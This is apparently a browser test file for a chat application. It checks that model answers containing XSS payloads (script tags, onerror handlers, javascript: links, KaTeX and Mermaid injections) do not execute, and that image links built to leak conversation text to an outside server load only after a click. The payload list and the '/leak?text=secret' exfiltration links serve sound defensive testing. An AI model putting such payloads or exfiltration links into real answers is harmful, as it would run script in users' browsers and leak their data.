import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { answered, ask, turns, lastAnswer, openChat, questionFor } from "./chat-page.ts";
import { expect, test } from "./fixtures.ts";

/** Answers that a model can be made to give, each in the hope that something of it runs. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)></svg>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<details open ontoggle=alert(1)>x</details>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:alert(1))",
  "![x](javascript:alert(1))",
  '![x](https://canary.invalid/"onerror="alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  "[a]: javascript:alert(1)\n\n[a]",
  "<javascript:alert(1)>",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "```<img src=x onerror=alert(1)>\ncode\n```",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\htmlData{onclick=alert(1)}{x}$",
  "$$\\includegraphics{https://canary.invalid/x.png}$$",
  '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA[<script>alert(1)</script>]\nclick A call alert(1)\n```',
  "```mermaid\nsequenceDiagram\nA->>B: <svg/onload=alert(1)>\n```",
].join("\n\n");

/** The labels of these diagrams have tags, which are drawn as text. */
const DIAGRAMS = [
  'graph TD\nA["<svg onload=alert(1)>"] --> B["one<br/>two"]',
  "graph TD\nC[<<svg onload=alert(1)>] --> D[a]",
  "sequenceDiagram\nE->>F: <svg/onload=alert(1)>",
  "classDiagram\nclass G {\n  <<interface>>\n}",
]
  .map((source) => `\`\`\`mermaid\n${source}\n\`\`\``)
  .join("\n\n");

test(
  "R33: nothing in an answer, a question or a title runs or breaks a policy",
  { tag: "@desktop" },
  async ({ page }) => {
    const dialogs: string[] = [];
    const reports: string[] = [];
    page.on("console", (message) => {
      if (message.text().startsWith("policy: ")) reports.push(message.text());
    });
    await page.addInitScript(() => {
      addEventListener("securitypolicyviolation", ({ violatedDirective, sample }) =>
        console.log(`policy: ${violatedDirective} ${sample}`),
      );
    });
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await openChat(page);
    await ask(page, `${questionFor(ATTACKS)} <img src=x onerror=alert(2)>`);
    await answered(page);
    await expect(lastAnswer(page)).toContainText("<script>alert(1)</script>");
    const links = await lastAnswer(page)
      .locator("a")
      .evaluateAll((found) => found.map((link) => [link.getAttribute("href"), link.getAttribute("rel")]));
    for (const [href, rel] of links) {
      expect(href).toMatch(/^(https?|mailto):/);
      expect(rel).toBe("noopener noreferrer nofollow ugc");
    }
    await expect(lastAnswer(page).locator("script, svg[onload], img[onerror], iframe, details")).toHaveCount(
      0,
    );
    for (const text of await lastAnswer(page).getByText("click", { exact: true }).all()) await text.click();

    await ask(page, questionFor(DIAGRAMS));
    await expect(turns(page)).toHaveCount(2);
    await answered(page);
    const drawn = lastAnswer(page).getByRole("img", { name: /Diagram of/ });
    await expect.poll(() => drawn.count()).toBeGreaterThanOrEqual(3);
    const images = await drawn.evaluateAll((found) => found.map((image) => image.getAttribute("src") ?? ""));
    expect(decodeURIComponent(images[0]!)).toContain("&lt;svg");
    expect(decodeURIComponent(images.at(-1)!)).toContain("interface");

    await page.reload();
    await answered(page);
    await page.goto("/user/history");
    await expect(page.getByRole("link", { name: /scenario/ }).first()).toBeVisible();
    expect(dialogs).toEqual([]);
    expect(reports).toEqual([]);
  },
);

test.describe("R34: an answer that wants a picture shown", () => {
  let canary: Server;
  let hits: string[] = [];
  const address = () => `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;

  test.beforeEach(async () => {
    hits = [];
    canary = createServer((request, response) => {
      hits.push(`${request.url} ${request.headers.referer ?? "no referrer"}`);
      response.setHeader("content-type", "image/svg+xml");
      response.end('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"/>');
    });
    await new Promise<void>((listening) => canary.listen(0, "127.0.0.1", listening));
  });
  test.afterEach(async () => {
    await new Promise((closed) => canary.close(closed));
  });

  test(
    "contacts nobody before a click, and only the picture's address after it",
    { tag: "@desktop" },
    async ({ page }) => {
      await openChat(page);
      const url = `${address()}/leak?text=secret`;
      const answer = [
        `![the conversation](${url})`,
        `<img src="${url}">`,
        `[link](${url})`,
        `$\\includegraphics{${url}}$`,
        '```mermaid\ngraph TD\nA@{ img: "' + url + '", label: "x" }\n```',
        "```mermaid\ngraph TD\nA[x]\nstyle A fill:url(" + url + ")\n```",
        '```mermaid\n%%{init: {"themeCSS": "* { background: url(' + url + ') }"}}%%\ngraph TD\nB[y]\n```',
      ].join("\n\n");
      await ask(page, questionFor(answer));
      await answered(page);
      await expect(lastAnswer(page)).toContainText("graph TD");
      // A request from before the click would stand before it in the list.
      expect(hits).toEqual([]);
      await page.getByRole("button", { name: /Load the image from 127.0.0.1/ }).click();
      await expect.poll(() => hits).toEqual(["/leak?text=secret no referrer"]);
      const frame = turns(page).locator("iframe");
      await expect(frame).toHaveAttribute("sandbox", "allow-scripts");
      await expect(frame).toHaveCSS("aspect-ratio", "40 / 20");
      expect(hits).toHaveLength(1);
    },
  );
});
